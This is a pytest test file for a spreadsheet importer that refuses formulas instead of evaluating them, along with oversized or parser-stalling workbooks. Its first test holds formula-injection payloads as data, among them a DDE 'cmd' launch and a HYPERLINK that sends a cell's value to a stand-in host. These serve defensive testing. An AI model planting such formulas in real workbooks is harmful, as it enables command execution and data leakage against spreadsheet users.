"""Formulas are never worked out: their stored value is read, or the row is given back."""

import openpyxl
import pytest

from dhealth.exchange.workbooks.columns import find_columns
from dhealth.exchange.workbooks.contents import MOST_UNWORKED
from dhealth.exchange.workbooks.headings import HEADINGS
from dhealth.exchange.workbooks.reading import read_workbook
from dhealth.exchange.workbooks.rejects import write_rejects
from dhealth.exchange.workbooks.rows import Reject
from dhealth.exchange.workbooks.safety import MB
from dhealth.exchange.workbooks.tests.books import CLIENT, NAMESPACE, PARSERS, TODAY, pack, parts
from dhealth.exchange.workbooks.tests.refusing import refusal

pytestmark = pytest.mark.covers("CLI-05")


@pytest.mark.parametrize(
    "formula",
    [
        "cmd|'/c calc'!A1",
        "HYPERLINK(&quot;http://x.example/&quot;&amp;A1,&quot;mở&quot;)",
        "WEBSERVICE(A1)",
        "[1]Sheet1!A1",
        "_xlfn.IMAGE (A1)",
        "cmd&#124;'/c calc'!A1",
    ],
)
def test_a_formula_that_reaches_outside_is_refused_by_its_cell(tmp_path, formula):
    row = f'<row r="7"><c r="B7" t="str"><f>{formula}</f><v>x</v></c></row>'
    assert "Sheet KHACH_HANG, cell B7" in refusal(pack(tmp_path / "so.xlsx", parts(row)))


def parsed(book):
    columns = find_columns(book)["clients"]
    return list(PARSERS["clients"](book.sheets[columns.sheet], columns, TODAY))


@pytest.fixture
def worked_out_never(tmp_path):
    """Two clients as a library writes them, the second with a formula in this column; what is made of them."""

    def make(field):
        file = openpyxl.Workbook()
        sheet = file.active
        sheet.title = "KHACH_HANG"
        sheet.append([*(names[0] for names in HEADINGS["clients"].values()), "STT"])
        rows = [CLIENT | {"code": "GB2", "stt": 1}, CLIENT | {"code": "GB3", "stt": 2, field: "=A2"}]
        for row in rows:
            sheet.append([row.get(name) for name in (*HEADINGS["clients"], "stt")])
        file.save(tmp_path / "so.xlsx")
        return parsed(read_workbook(tmp_path / "so.xlsx"))

    return make


def rows_of(path):
    return list(read_workbook(path).sheets["KHACH_HANG"].rows)


@pytest.mark.parametrize("kind", ["", ' t="str"'])
@pytest.mark.parametrize("value", ["", "<v/>", "<v></v>", "<v />"])
def test_a_formula_without_a_value_is_not_taken_for_an_empty_cell(tmp_path, kind, value):
    book = parts(f'<row r="2"><c r="C2"{kind}><f>A1&amp;"x"</f>{value}</c></row>')
    empty_text = kind and value
    assert rows_of(pack(tmp_path / "so.xlsx", book)) == ([] if empty_text else [(2, [None, None, '=A1&"x"'])])


def test_formulas_without_a_value_stand_where_excel_shows_them(tmp_path):
    rows = '<row r="2"><c r="B2"><v>7</v></c></row><row r="4"><c r="D4"><f>B2</f></c></row>'
    rows += '<row r="5"><c r="E5"><f>1</f><v>6</v></c></row><row r="9"><c r="A9"><f>B2</f></c></row>'
    assert rows_of(pack(tmp_path / "so.xlsx", parts(rows))) == [
        (2, [None, 7, None, None, None]), (4, [None, None, None, "=B2", None]), (5, [None] * 4 + [6]), (9, ["=B2"])
    ]  # fmt: skip


@pytest.mark.parametrize(("many", "passes"), [(MOST_UNWORKED, True), (MOST_UNWORKED + 1, False)])
def test_a_book_full_of_formulas_without_a_value_is_to_be_saved_in_excel_first(tmp_path, many, passes):
    rows = "".join(f'<row r="{n}"><c r="B{n}"><f>A{n}</f></c></row>' for n in range(1, many + 1))
    path = pack(tmp_path / "so.xlsx", parts(rows))
    if passes:
        assert len(rows_of(path)) == many
    else:
        assert f"cell B{many}. Open the workbook in Excel or LibreOffice once" in refusal(path)


@pytest.mark.parametrize(("cell", "said"), [("C150001", "row 150"), ("GS1", "200 columns"), ("", "cell ?")])
def test_a_formula_without_a_value_beyond_the_sheet_or_nowhere_refuses_the_workbook(tmp_path, cell, said):
    place = f' r="{cell}"' if cell else ""
    book = parts(f'<row r="1"><c r="A1"><v>1</v></c><c{place}><f>A1</f></c></row>')
    assert said in refusal(pack(tmp_path / "so.xlsx", book)).replace("\u202f", " ")


@pytest.mark.parametrize("field", ["code", "name", "birth", "group", "note"])
def test_a_row_with_such_a_formula_comes_back_and_no_other_does(worked_out_never, field):
    good, bad = worked_out_never(field)
    assert good.code == "GB2"
    names = HEADINGS["clients"][field]
    assert bad == Reject("KHACH_HANG", 3, names[0], "=A2", "formula_without_value")


def test_such_a_formula_in_a_column_that_nobody_reads_costs_no_row(worked_out_never):
    assert [row.code for row in worked_out_never("stt")] == ["GB2", "GB3"]


@pytest.mark.parametrize(("mended", "reason"), [(None, "formula_without_value"), ("Ngô Minh Phong", None)])
def test_a_row_given_back_for_a_formula_waits_until_it_is_mended(worked_out_never, tmp_path, mended, reason):
    worked_out_never("name")
    book = read_workbook(tmp_path / "so.xlsx")
    found = find_columns(book)
    rejects = [row for row in parsed(book) if isinstance(row, Reject)]
    write_rejects(tmp_path / "sua.xlsx", book, found, rejects)
    file = openpyxl.load_workbook(tmp_path / "sua.xlsx")
    assert (file["KHACH_HANG"]["B2"].value, file["KHACH_HANG"]["B2"].data_type) == ("=A2", "s")
    if mended:
        file["KHACH_HANG"]["B2"].value = mended
        file.save(tmp_path / "sua.xlsx")
    (again,) = parsed(read_workbook(tmp_path / "sua.xlsx"))
    assert getattr(again, "reason", None) == reason


def test_words_that_only_look_like_a_formula_are_words(client_row):
    assert client_row(note="=> gọi lại", name="=1+1").note == "=> gọi lại"


def test_a_formula_is_found_where_two_pieces_of_a_part_meet(tmp_path):
    padding = f"<!--{'x' * (256 * 1024 - 130)}-->"
    for shift in range(0, 90, 9):
        row = padding + " " * shift + '<row r="2"><c r="C2"><f>RTD(A1)</f><v>5</v></c></row>'
        assert "C2" in refusal(pack(tmp_path / "so.xlsx", parts(row)))


def test_a_formula_is_read_as_the_value_that_excel_stored(tmp_path):
    row = '<row r="2"><c r="A2"><f>SUM(B1:B9)</f><v>5</v></c><c r="B2" t="str"><f>""</f><v></v></c></row>'
    book = read_workbook(pack(tmp_path / "so.xlsx", parts(row)))
    assert book.sheets["KHACH_HANG"].row(2)[0] == 5


@pytest.mark.slow
@pytest.mark.parametrize(
    "opening", ['<c r="A1"><f>', "<c ", "<f ", "<c><f></f>" + " " * 4000, "<c><f></f><v ", '<c r="A1"><f/></c>']
)
def test_a_part_made_to_slow_the_search_is_given_up(tmp_path, opening):
    sheet = f"<worksheet {NAMESPACE}><sheetData>" + opening * (19 * MB // len(opening))
    assert refusal(pack(tmp_path / "so.xlsx", parts(**{"xl/worksheets/sheet1.xml": sheet})))
